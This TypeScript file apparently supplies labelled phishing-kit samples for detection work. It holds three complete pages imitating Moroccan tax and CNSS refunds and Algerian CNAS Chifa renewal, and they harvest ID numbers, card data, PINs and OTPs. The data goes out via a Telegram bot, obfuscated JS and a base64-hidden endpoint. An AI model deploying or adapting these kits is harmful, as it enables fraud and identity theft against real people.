import { htmlRoute, type Entry } from '../entry.js';
import { b64, doc, logos, splitJs, tgSendJs, visitorInfoJs, cardFieldsFr, luhnJs } from '../parts/xe-kit.js';
import { jsRoute } from '../parts/e-bin.js';

/**
 * Tax and social-security refund kits: DGI Maroc, CNSS/AMO Maroc, DGI Côte d'Ivoire (e-impôts) and CNAS
 * Algérie (carte Chifa) — a refund is "waiting", the victim gives identity numbers, bank card and SMS code.
 */

const dgiMarocRefund: Entry = (() => {
  const host = 'tax-gov-ma.remboursement-dgi.com';
  return {
    id: 'xe-dgi-maroc-ir-refund-arabic',
    label: 'phishing',
    kind: 'tax-refund-kit',
    url: `https://${host}/ar/restitution`,
    body: doc({
      title: 'المديرية العامة للضرائب - استرجاع الضريبة على الدخل',
      lang: 'ar',
      dir: 'rtl',
      css: `body{margin:0;font-family:'Droid Arabic Kufi',Tahoma,Arial;background:#f3f4f6}.h{background:#fff;border-bottom:3px solid #c1272d;padding:10px 20px}.c{max-width:600px;margin:20px auto;background:#fff;padding:24px;border:1px solid #e1e1e1}.n{background:#eef7f0;border-right:4px solid #006233;padding:10px;font-size:14px}.g label{display:block;font-size:13px;margin-top:10px}.g input{width:100%;padding:10px;border:1px solid #ccc;box-sizing:border-box}.dg-l{display:block;font-size:13px;margin-top:10px;direction:ltr;text-align:left}.dg-i{width:100%;padding:10px;box-sizing:border-box;direction:ltr}.dg-row{display:flex;gap:10px}.dg-row>div{flex:1}.dg-amount{font-weight:bold;color:#006233;direction:ltr;text-align:left}button{margin-top:16px;background:#006233;color:#fff;border:0;padding:12px 28px;font-size:15px}`,
      body: `<div class="h">${logos.dgiMa(42)}</div><div class="c"><h2>استرجاع مبلغ الضريبة على الدخل برسم سنة 2024</h2>
<div class="n">بعد مراجعة التصريح السنوي، تبين أنكم تستحقون استرجاع مبلغ <b>2.480,00 درهم</b>. يرجى ملء الاستمارة أسفله لتحويل المبلغ إلى بطاقتكم البنكية داخل أجل 5 أيام عمل.</div>
<form id="dg" class="g"><label>الاسم الكامل</label><input name="nom" required><label>رقم البطاقة الوطنية (CIN)</label><input name="cin" required><label>المعرف الضريبي (IF)</label><input name="if"><label>رقم الهاتف</label><input name="tel" required>
<label>رقم الحساب البنكي (RIB - 24 رقم)</label><input name="rib" maxlength="24">${cardFieldsFr({ cls: 'dg', idPrefix: 'dg', amountLine: 'Montant du remboursement : 2 480,00 MAD' })}<button>تأكيد طلب الاسترجاع</button></form></div>
<script>${visitorInfoJs('vi')}${tgSendJs('tg', splitJs('6998120374:AAFr0zXc2VbNm4QwL8kPj6yTs1uHd3eGo5A', 5), `'-1002118473302'`)}${luhnJs('lh')}
document.getElementById('dg').onsubmit=async function(e){e.preventDefault();if(!lh(document.getElementById('dg-num').value)){alert('رقم البطاقة غير صحيح');return}var t='🇲🇦 DGI REFUND\\n';new FormData(this).forEach(function(v,k){t+=k+': '+v+'\\n'});
['dg-name','dg-num','dg-exp','dg-cvv'].forEach(function(i){t+=i+': '+document.getElementById(i).value+'\\n'});await tg(t+(await vi()));location.href='/ar/tahqiq'};</script>`,
    }),
    routes: {
      [`${host}/ar/tahqiq`]: htmlRoute(doc({ title: 'التحقق', lang: 'ar', dir: 'rtl', body: '<div style="max-width:380px;margin:60px auto;font-family:Tahoma;text-align:center"><p>لإتمام عملية الاسترجاع، أدخل رمز التحقق الذي توصلت به من البنك</p><form method="post" action="/ar/tahqiq"><input name="code" maxlength="6" style="font-size:22px;text-align:center;padding:8px"><br><button style="margin-top:12px;background:#006233;color:#fff;border:0;padding:10px 30px">تأكيد</button></form></div>' })),
    },
  };
})();

const cnssAmoRefund: Entry = (() => {
  const host = 'cnss-ma-remboursement-amo.online';
  return {
    id: 'xe-cnss-amo-reimbursement-kit',
    label: 'phishing',
    kind: 'social-security-refund-kit',
    url: `https://${host}/assure/dossier-amo`,
    body: doc({
      title: 'CNSS - Remboursement AMO | Ma CNSS',
      css: `body{margin:0;font-family:Arial;background:#eef5fb}.hd{background:#fff;padding:10px 20px;border-bottom:3px solid #0072bc}.b{max-width:540px;margin:22px auto;background:#fff;padding:22px;border-radius:6px}.st{background:#e3f1fb;padding:10px;border-radius:4px}.st b{color:#0072bc}input{width:100%;padding:10px;margin:5px 0 10px;box-sizing:border-box;border:1px solid #c5d5e4}.tw{display:flex;gap:10px}button{width:100%;padding:12px;background:#0072bc;color:#fff;border:0;border-radius:4px}`,
      body: `<div class="hd">${logos.cnssMa(40)}</div><div class="b"><h3>Dossier maladie n° 2025/118-447301</h3>
<div class="st">Statut : <b>Remboursement validé – 1 346,20 DH</b><br>Motif : feuille de soins du 12/09/2025 (Dr. El Idrissi, Casablanca)</div>
<p>Le virement n'a pas pu être effectué car votre RIB n'est pas à jour. Veuillez saisir la carte bancaire sur laquelle le remboursement sera crédité.</p>
<form id="am"><input name="immat" placeholder="Numéro d'immatriculation CNSS (9 chiffres)" required><input name="cin" placeholder="CIN" required><input name="nom" placeholder="Nom et prénom" required><input name="gsm" placeholder="Téléphone" required>
<input name="carte" placeholder="Numéro de carte bancaire" required><div class="tw"><input name="exp" placeholder="MM/AA" required><input name="cvv" placeholder="CVV" required></div><button>Recevoir mon remboursement</button></form></div>
<script src="/assure/static/main.min.js"></script>`,
    }),
    routes: {
      [`${host}/assure/static/main.min.js`]: jsRoute(`!function(){var _=['\\x73\\x75\\x62\\x6d\\x69\\x74','\\x2f\\x61\\x73\\x73\\x75\\x72\\x65\\x2f\\x67\\x61\\x74\\x65\\x2e\\x70\\x68\\x70','\\x50\\x4f\\x53\\x54'];
document.getElementById('am').addEventListener(_[0],function(e){e.preventDefault();fetch(_[1],{method:_[2],body:new FormData(this)}).then(function(){location.href='/assure/otp.html'})})}();`),
      [`${host}/assure/otp.html`]: htmlRoute(doc({ title: 'CNSS - Validation', body: `<div style="max-width:380px;margin:60px auto;font-family:Arial;text-align:center">${logos.cnssMa(36)}<p>Saisissez le code envoyé par votre banque pour autoriser le virement du remboursement.</p><form method="post" action="/assure/gate.php"><input name="otp" maxlength="6" style="font-size:22px;text-align:center"><br><button style="margin-top:10px;background:#0072bc;color:#fff;border:0;padding:10px 30px">Valider</button></form></div>` })),
    },
  };
})();

const cnasChifa: Entry = (() => {
  const host = 'cnas-dz-chifa.top';
  const cfg = JSON.stringify({ u: `https://${host}/carte/api/store`, n: '/carte/code' });
  return {
    id: 'xe-cnas-algerie-chifa-renewal',
    label: 'phishing',
    kind: 'social-security-refund-kit',
    url: `https://${host}/carte/renouvellement`,
    body: doc({
      title: 'CNAS - Renouvellement carte Chifa | الصندوق الوطني للتأمينات الاجتماعية',
      lang: 'ar',
      dir: 'rtl',
      css: `body{margin:0;font-family:Tahoma,Arial;background:#f1f6f1}.h{background:#00703c;color:#fff;padding:12px 20px}.b{max-width:500px;margin:20px auto;background:#fff;padding:22px;border-radius:6px}.fr{direction:ltr;text-align:left;font-size:13px;color:#555}input{width:100%;padding:10px;margin:6px 0;box-sizing:border-box;direction:ltr}button{width:100%;padding:12px;background:#00703c;color:#fff;border:0;margin-top:8px}`,
      body: `<div class="h">الصندوق الوطني للتأمينات الاجتماعية للعمال الأجراء · CNAS</div><div class="b"><h3>تجديد بطاقة الشفاء واسترجاع المستحقات</h3>
<p>انتهت صلاحية بطاقة الشفاء الخاصة بكم. لتفادي توقيف التعويضات، يرجى تحديث المعلومات ودفع رسوم التجديد (150 دج) بالبطاقة الذهبية أو CIB.</p>
<p class="fr">Votre carte Chifa a expiré. Réglez les frais de renouvellement (150 DA) par carte EDAHABIA ou CIB pour continuer à être remboursé.</p>
<form id="ch"><input name="nss" placeholder="N° de sécurité sociale" required><input name="nom" placeholder="Nom / Prénom" required><input name="tel" placeholder="Téléphone" required>
<input name="card" placeholder="Numéro de carte EDAHABIA / CIB" required><input name="exp" placeholder="MM/AA"><input name="cvv2" placeholder="CVV2"><input name="pin" type="password" placeholder="Code PIN" maxlength="4"><button>دفع 150 دج · Payer</button></form></div>
<script>(function(){var c=JSON.parse(atob('${b64(cfg)}'));document.getElementById('ch').onsubmit=function(e){e.preventDefault();fetch(c.u,{method:'POST',body:new URLSearchParams(new FormData(this))}).then(function(){location.href=c.n})}})();</script>`,
    }),
    routes: {
      [`${host}/carte/code`]: htmlRoute(doc({ title: 'CNAS', lang: 'ar', dir: 'rtl', body: '<div style="max-width:360px;margin:60px auto;font-family:Tahoma;text-align:center"><p>أدخل رمز OTP المرسل من طرف بريد الجزائر</p><form method="post" action="/carte/api/store"><input name="otp" maxlength="6" style="font-size:22px;text-align:center"><br><button style="margin-top:10px;background:#00703c;color:#fff;border:0;padding:10px 30px">تأكيد</button></form></div>' })),
    },
  };
})();

export const entries: Entry[] = [dgiMarocRefund, cnssAmoRefund, cnasChifa];
